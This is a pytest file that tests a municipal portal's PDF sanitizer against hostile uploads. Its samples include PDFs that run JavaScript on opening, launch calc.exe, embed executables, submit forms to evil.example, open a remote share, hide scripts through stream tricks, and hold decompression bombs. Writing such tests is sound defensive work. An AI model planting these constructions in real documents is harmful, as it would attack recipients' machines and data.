"""A municipality's own PDF goes to every family: what acts by itself, hides something or bursts is refused by name."""

import re
import zlib
from collections.abc import Callable

import pytest
from fpdf import FPDF
from fpdf.enums import AccessPermission

from sgo_pfdo.blueprints.municipality.papers import REFUSALS
from sgo_pfdo.documents import foreign_pdf, pdfium
from sgo_pfdo.documents.pdfium import UnwantedPdfError, look_through
from sgo_pfdo.municipalities import own_papers
from sgo_pfdo.municipalities.own_papers import UNWANTED, check_pdf
from tests.blueprints.municipality.test_papers import FILE, pdf, upload
from tests.support.web import Web

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(calc.exe)>>"
A4 = b"/MediaBox[0 0 595 842]"
ATTACHED = b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(content), content)


def file_of(objects: list[bytes]) -> bytes:
    """Put objects together; the first one is the catalog."""
    out, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))
    return out + head + table + trailer


def paper(catalog: bytes = b"", page: bytes = b"", *more: bytes, pages: int = 1, size: bytes = A4) -> bytes:
    """Make a PDF; ``more`` are objects 4, 5 and so on."""
    kids = b"3 0 R " * pages
    return file_of([
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
        b"<</Type/Page/Parent 2 0 R%s%s>>" % (size, page),
        *more,
    ])  # fmt: skip


def hidden_in_an_object_stream() -> bytes:
    """Pack catalog and pages away, as most programs of today do."""
    objects = [b"<</Type/Catalog/Pages 2 0 R/OpenAction%s>>" % SCRIPT, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    objects.append(b"<</Type/Page/Parent 2 0 R%s>>" % A4)
    index, body = b"", b""
    for number, one in enumerate(objects, 1):
        index += b"%d %d " % (number, len(body))
        body += one + b" "
    packed = b"/Type/ObjStm/N 3/First %d/Filter/FlateDecode" % len(index)
    out = b"%PDF-1.7\n"
    first = len(out)
    out += b"4 0 obj\n" + stream(zlib.compress(index + body), packed) + b"\nendobj\n"
    second = len(out)
    places = [(0, 0, 0), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, first, 0), (1, second, 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(3, "big") + bytes([last]) for kind, place, last in places)
    out += b"5 0 obj\n" + stream(table, b"/Type/XRef/Size 6/W[1 3 1]/Root 1 0 R") + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % second


def restricted(permissions: AccessPermission) -> bytes:
    """Make a PDF that opens without a password and allows no more than this."""
    document = FPDF()
    document.add_page()
    document.set_encryption(owner_password="owner", permissions=permissions)
    return bytes(document.output())


def annotation(entries: bytes) -> bytes:
    return b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]%s>>]" % entries


def big(size: int, layers: int = 1) -> bytes:
    """Pack so many zero bytes, once or several times over."""
    packed = zlib.compress(bytes(size))
    for _ in range(layers - 1):
        packed = zlib.compress(packed)
    return packed


UNPACKED = 4 * 1024 * 1024
FLATE = b"/Filter/FlateDecode"
IMAGE = b"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray/BitsPerComponent 8/Width 30000/Height 30000" + FLATE
PINNED = b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]"
FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
HIDES = b"\r\nendstream\r\nendobj\r\n>>stream"
"""The content of a stream that looks as if it ended, and another one began, which goes on into the next object."""
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "script on opening": (pdfium.SCRIPT, lambda: paper(b"/OpenAction" + SCRIPT)),
    "script spelt otherwise": (pdfium.SCRIPT, lambda: paper(b"/OpenAction<</S/J#61vaScript/J#53(1)>>")),
    "script among the names": (
        pdfium.SCRIPT,
        lambda: paper(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", b"", SCRIPT),
    ),
    "script of a bookmark": (
        pdfium.SCRIPT,
        lambda: paper(b"/Outlines<</First 4 0 R>>", b"", b"<</Title(x)/A%s>>" % SCRIPT),
    ),
    "script of a field": (pdfium.SCRIPT, lambda: paper(b"", annotation(b"/AA<</K%s>>" % SCRIPT))),
    "script in an object stream": (pdfium.SCRIPT, hidden_in_an_object_stream),
    "script behind a stream that seems to go on": (
        pdfium.SCRIPT,
        lambda: paper(b"/OpenAction 5 0 R", b"/Contents 4 0 R", stream(HIDES), SCRIPT, stream(b"q Q")),
    ),
    "script behind a text that seems to begin a stream": (
        pdfium.SCRIPT,
        lambda: paper(b"/A(>>stream\r\n)/OpenAction 5 0 R", b"/Contents 4 0 R", stream(b"q Q"), SCRIPT),
    ),
    "form that few programs show": (
        pdfium.FORM,
        lambda: paper(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"", stream(b"<xdp/>")),
    ),
    "form in parts": (
        pdfium.FORM,
        lambda: paper(b"/AcroForm<</Fields[]/XFA[(template)4 0 R]>>", b"", stream(b"<xdp/>")),
    ),
    "portfolio": (
        pdfium.PORTFOLIO,
        lambda: paper(
            b"/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>", b"", ATTACHED, stream(b"%PDF")
        ),
    ),
    "printing forbidden": (pdfium.PRINTING, lambda: restricted(AccessPermission.MODIFY | AccessPermission.COPY)),
    "everything forbidden": (pdfium.PRINTING, lambda: restricted(AccessPermission.none())),
    "program of a link": (pdfium.PROGRAM, lambda: paper(b"", annotation(b"/A" + LAUNCH))),
    "program on opening": (pdfium.PROGRAM, lambda: paper(b"/OpenAction" + LAUNCH)),
    "file attached": (
        pdfium.ATTACHMENT,
        lambda: paper(b"/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", b"", ATTACHED, stream(b"MZ")),
    ),
    "file pinned to a page": (
        pdfium.ATTACHMENT,
        lambda: paper(b"", PINNED, ATTACHED, stream(b"MZ")),
    ),
    "film": (pdfium.ATTACHMENT, lambda: paper(b"", b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")),
    "sends the form": (pdfium.ACTION, lambda: paper(b"", annotation(b"/A<</S/SubmitForm/F(http://evil.example)>>"))),
    "opens another file": (pdfium.ACTION, lambda: paper(b"", annotation(b"/A<</S/GoToR/F(//evil/share)/D[0]>>"))),
    "acts when a page is turned": (pdfium.ACTION, lambda: paper(b"", b"/AA<</O<</S/URI/URI(http://evil.example)>>>>")),
    "too many pages": (pdfium.PAGES, lambda: paper(pages=pdfium.MOST_PAGES + 1)),
    "no page": (pdfium.DAMAGED, lambda: paper(pages=0)),
    "enormous page": (pdfium.SIDE, lambda: paper(size=b"/MediaBox[0 0 14400 14400]")),
    "text that bursts": (pdfium.BOMB, lambda: paper(b"", b"/Contents 4 0 R", stream(big(UNPACKED), FLATE))),
    "text packed twice that bursts": (
        pdfium.BOMB,
        lambda: paper(
            b"", b"/Contents 4 0 R", stream(big(UNPACKED, 2), b"/Filter[/FlateDecode/FlateDecode]")
        ),
    ),
    "image that bursts": (
        pdfium.BOMB,
        lambda: paper(b"", b"/Resources<</XObject<</I 4 0 R>>>>/Contents 5 0 R", stream(b"", IMAGE), stream(b"/I Do")),
    ),
}  # fmt: skip


@pytest.mark.parametrize(("what", "make"), HOSTILE.values(), ids=HOSTILE.keys())
def test_what_acts_or_bursts_is_refused_by_name(
    what: str, make: Callable[[], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pdfium, "MOST_UNPACKED", UNPACKED)
    with pytest.raises(UnwantedPdfError) as caught:
        look_through(make())
    assert caught.value.what == what


def test_what_takes_too_long_to_draw_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """Forms that draw each other: 2000 ⁴ rectangles."""
    monkeypatch.setattr(foreign_pdf, "SECONDS", 1)
    content = b"/F Do " * 2000
    inner = [
        stream(content, b"%s/Resources<</XObject<</F %d 0 R>>>>" % (FORM, number)) for number in (6, 7, 8)
    ]  # fmt: skip
    page = b"/Resources<</XObject<</F 5 0 R>>>>/Contents 4 0 R"
    bomb = paper(b"", page, stream(content), *inner, stream(b"0 0 9 9 re f", FORM))
    with pytest.raises(ValueError, match="too long or too much memory"):
        check_pdf(bomb)


def test_a_crash_is_a_refusal_and_takes_nobody_down(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(foreign_pdf, "MEMORY", 1024 * 1024)
    with pytest.raises(ValueError, match="too long or too much memory"):
        check_pdf(pdf())


def test_the_program_that_looks_sees_no_secret_of_the_portal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SGO_PFDO_KEYS", "secret")
    assert "SGO_PFDO_KEYS" not in foreign_pdf._environment()
    assert check_pdf(pdf())


def test_inside_a_server_that_is_no_python_there_is_one_all_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.executable", "/usr/bin/uwsgi")
    assert check_pdf(pdf())


def test_too_many_at_once_are_told_to_come_again(office: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    for _ in range(foreign_pdf.AT_ONCE):
        assert foreign_pdf._places.acquire(blocking=False)
    try:
        assert "Попробуйте ещё раз через минуту." in upload(office, pdf()).text
    finally:
        for _ in range(foreign_pdf.AT_ONCE):
            foreign_pdf._places.release()
    assert "Сохранено." in upload(office, pdf()).text


def test_without_python_the_log_says_so(monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    monkeypatch.setattr(foreign_pdf, "_python", lambda: "/nowhere/python")
    with pytest.raises(ValueError, match="cannot be looked through now"):
        check_pdf(pdf())
    assert "cannot start Python" in caplog.text


def test_what_the_file_held_besides_its_pages_is_gone() -> None:
    """An earlier version of the file, what stands behind its end, what belongs to no page."""
    before = paper(b"", b"/Contents 4 0 R", stream(b"q Q"), b"(lost)")
    copy = check_pdf(before + b"<html><script>")
    assert b"lost" not in copy and b"<html>" not in copy and copy.startswith(b"%PDF-")
    assert copy == check_pdf(before) == check_pdf(copy)


def test_a_form_to_fill_in_with_links_stays_one() -> None:
    field = b"/Annots[<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[9 9 99 30]>>4 0 R]"
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org)>>>>"
    copy = check_pdf(paper(b"/OpenAction[3 0 R/Fit]/AcroForm<</Fields[]>>/Lang(ru)", field, link))
    for part in (b"/FT/Tx", b"/URI", b"/OpenAction[", b"/AcroForm", b"/Lang"):
        assert part in copy


def test_restrictions_that_need_no_password_to_open_are_left_out() -> None:
    for allowed in (AccessPermission.PRINT_LOW_RES, AccessPermission.PRINT_LOW_RES | AccessPermission.PRINT_HIGH_RES):
        assert b"/Encrypt " not in check_pdf(restricted(allowed))


@pytest.mark.parametrize("before", [b"\xef\xbb\xbf", b"\r\n", b"HTTP/1.1 200 OK\r\n\r\n", b" " * 1019], ids=len)
@pytest.mark.parametrize("counts", [False, True], ids=["not counted", "counted"])
def test_a_mark_or_a_line_before_the_beginning_is_skipped(before: bytes, counts: bool) -> None:
    """Whether the file's table of places counts what stands before, or was written without it."""
    plain = paper(b"", b"/Contents 4 0 R", stream(b"0 0 9 9 re f"))
    spoilt = before + plain
    if counts:
        table = plain.index(b"xref\n")
        moved = re.sub(rb"(\d{10}) 00000 n", lambda one: b"%010d 00000 n" % (int(one[1]) + len(before)), plain[table:])
        moved = moved.replace(b"startxref\n%d" % table, b"startxref\n%d" % (table + len(before)))
        spoilt = before + plain[:table] + moved
    assert check_pdf(spoilt) == check_pdf(plain)


def test_what_begins_far_behind_is_no_pdf() -> None:
    with pytest.raises(ValueError, match="is no PDF"):
        check_pdf(b" " * 1020 + pdf())


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("printing forbidden", "Печать файла запрещена"),
        ("form that few programs show", "Это форма XFA"),
        ("portfolio", "Это портфолио PDF"),
    ],
)
def test_what_families_cannot_print_is_refused_with_the_reason_at_the_field(
    office: Web, name: str, reason: str
) -> None:
    page = upload(office, HOSTILE[name][1]())
    assert (page.status, page.text.count(reason)) == (422, 2)


def test_every_refusal_is_said_to_the_operator(office: Web) -> None:
    assert {*UNWANTED.values(), own_papers.NO_PDF, own_papers.NOT_NOW} == REFUSALS.keys()
    page = upload(office, HOSTILE["script on opening"][1]())
    assert page.status == 422
    assert page.text.count("В файле есть программа (JavaScript).") == 2
    assert b"JavaScript" not in office.client.get(FILE).data
